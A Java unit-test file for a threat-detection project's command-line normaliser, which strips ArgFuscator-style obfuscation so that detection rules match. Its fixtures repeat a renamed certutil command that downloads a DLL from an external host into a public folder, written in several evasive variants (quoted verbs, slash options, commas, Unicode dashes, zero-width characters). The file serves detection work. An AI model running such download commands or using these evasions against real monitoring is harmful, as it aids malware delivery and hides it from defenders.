package dev.bazahunt.rules;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What certutil's argument parser would see, from command lines obfuscated the ways ArgFuscator does. */
class CommandLineNormalizerTest {

    private static final String CLEAN = "x8k2.exe -urlcache -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll";

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            double spaces after the image  | x8k2.exe  -urlcache -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll
            quotes inside the verb         | x8k2.exe -url"cache" -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll
            quoted verb and path           | "x8k2.exe" "-urlcache" -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php "C:\\Users\\Public\\x8k2\\tmp1834.dll"
            slash options                  | x8k2.exe /urlcache /split /f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll
            commas between arguments       | x8k2.exe,-urlcache,-split,-f https://pshe0pxe339.xyz/xe1t23ym0s.php,C:\\Users\\Public\\x8k2\\tmp1834.dll
            tabs and trailing space        | '<TAB>x8k2.exe<TAB>-urlcache -split  -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll  '
            """)
    void asciiObfuscationsNormaliseToTheCleanLine(String scenario, String commandLine) {
        assertThat(CommandLineNormalizer.normalize(commandLine.replace("<TAB>", "\t"))).as(scenario).isEqualTo(CLEAN);
    }

    @Test
    void unicodeDashesBecomeTheAsciiOptionCharacter() {
        for (char dash : new char[] {'\u2013', '\u2014', '\u2015', '\u2212', '\u2010', '\u2011'}) {
            String line = "x8k2.exe " + dash + "urlcache " + dash + "split " + dash
                    + "f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll";
            assertThat(CommandLineNormalizer.normalize(line)).as("U+%04X", (int) dash).isEqualTo(CLEAN);
        }
    }

    @Test
    void zeroWidthAndFormatCharactersAreDropped() {
        String invisible = "\u200B\u200C\u200D\u200E\u200F\u202A\u202B\u202C\u202D\u202E"
                + "\u2060\u2061\u2062\u2063\u2064\uFEFF\u00AD";
        for (char format : invisible.toCharArray()) {
            String line = "x8k2.exe -url" + format + "cache -split -f ht" + format
                    + "tps://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll";
            assertThat(CommandLineNormalizer.normalize(line)).as("U+%04X", (int) format).isEqualTo(CLEAN);
        }
    }

    @Test
    void slashesInsideUrlsAndPathsAreKept() {
        String line = "certutil.exe -urlcache -f http://crl.microsoft.com/pki/crl/products/MicRooCerAut2011_2011_03_22.crl";
        assertThat(CommandLineNormalizer.normalize(line)).isSameAs(line);
        assertThat(CommandLineNormalizer.normalize("cmd.exe /c copy a b")).isEqualTo("cmd.exe -c copy a b");
    }

    @Test
    void caseIsLeftToTheKqlOperators() {
        assertThat(CommandLineNormalizer.normalize("X8K2.EXE /URLCACHE -F HTTPS://A/B"))
                .isEqualTo("X8K2.EXE -URLCACHE -F HTTPS://A/B");
    }

    @Test
    void anAlreadyNormalLineIsReturnedWithoutCopying() {
        assertThat(CommandLineNormalizer.normalize(CLEAN)).isSameAs(CLEAN);
    }

    @Test
    void nullAndBlankAreTheEmptyString() {
        assertThat(CommandLineNormalizer.normalize(null)).isEmpty();
        assertThat(CommandLineNormalizer.normalize("")).isEmpty();
        assertThat(CommandLineNormalizer.normalize(" \t\"\" ,")).isEmpty();
    }

    @Test
    void onlyTheFirst32KibAreExamined() {
        String padding = "A".repeat(CommandLineNormalizer.MAX_EXAMINED_CHARS - "x8k2.exe ".length());
        String line = "x8k2.exe " + padding + " -urlcache -f https://pshe0pxe339.xyz/xe1t23ym0s.php";

        String normalized = CommandLineNormalizer.normalize(line);

        assertThat(normalized).hasSize(CommandLineNormalizer.MAX_EXAMINED_CHARS).doesNotContain("urlcache");
    }
}
